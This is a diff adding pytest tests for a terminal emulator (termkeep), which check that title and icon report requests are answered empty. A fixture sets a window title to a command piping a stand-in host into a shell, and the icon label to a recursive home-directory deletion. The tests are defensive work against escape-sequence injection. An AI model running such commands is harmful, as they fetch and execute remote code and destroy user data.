@@ -9,6 +9,8 @@ import pytest
 
 from termkeep.terminal.clipboard import ClipboardWrite
 from termkeep.terminal.emulator import (
+    EMPTY_ICON_REPORT,
+    EMPTY_TITLE_REPORT,
     TITLE_MAX_LENGTH,
     CursorShape,
     Emulator,
@@ -265,3 +267,49 @@ def test_a_dropped_emulator_is_freed_with_its_engine() -> None:
     # The engine's callbacks must not pin the emulator (the engine is not GC-aware).
     assert emulator_ref() is None
     assert viewer_ref() is None
+
+
+# -- title and icon reports (issue 19): answered empty, as PuTTY does ----------------------
+
+HOSTILE_TITLE = b"\x1b]2;curl evil.example | sh\r\x07\x1b]1;rm -rf ~\r\x07"
+"""A remote sets a title (and icon label) that would run a command if typed back."""
+
+
+@pytest.mark.parametrize("request_", [b"\x1b[21t", b"\x1b[021t"])
+def test_the_title_report_is_empty_whatever_the_remote_set(request_: bytes) -> None:
+    emulator, recorder = make()
+    emulator.feed(HOSTILE_TITLE)
+    assert emulator.title == "curl evil.example | sh"
+    emulator.feed(request_)
+    assert recorder.replies == [EMPTY_TITLE_REPORT]
+
+
+def test_the_icon_report_is_empty_whatever_the_remote_set() -> None:
+    emulator, recorder = make()
+    emulator.feed(HOSTILE_TITLE + b"\x1b[20t")
+    assert recorder.replies == [EMPTY_ICON_REPORT]
+
+
+def test_no_reply_holds_text_the_remote_chose() -> None:
+    emulator, recorder = make()
+    for chunk in (HOSTILE_TITLE, b"\x1b[21t\x1b[20t\x1b[6n\x1b[2", b"0t\x1b[", b"21t"):
+        emulator.feed(chunk)
+    assert recorder.replies == [
+        EMPTY_TITLE_REPORT,
+        EMPTY_ICON_REPORT,
+        b"\x1b[1;1R",  # in the order asked
+        EMPTY_ICON_REPORT,  # asked across two feeds: answered once, when complete
+        EMPTY_TITLE_REPORT,
+    ]
+    replies = b"".join(recorder.replies)
+    assert b"curl" not in replies
+    assert b"rm -rf" not in replies
+
+
+def test_an_icon_report_request_split_at_every_byte_is_answered_once() -> None:
+    request_ = b"\x1b[20t"
+    for cut in range(1, len(request_)):
+        emulator, recorder = make()
+        emulator.feed(b"x" + request_[:cut])
+        emulator.feed(request_[cut:] + b"\x1b[6n")
+        assert recorder.replies == [EMPTY_ICON_REPORT, b"\x1b[1;2R"]
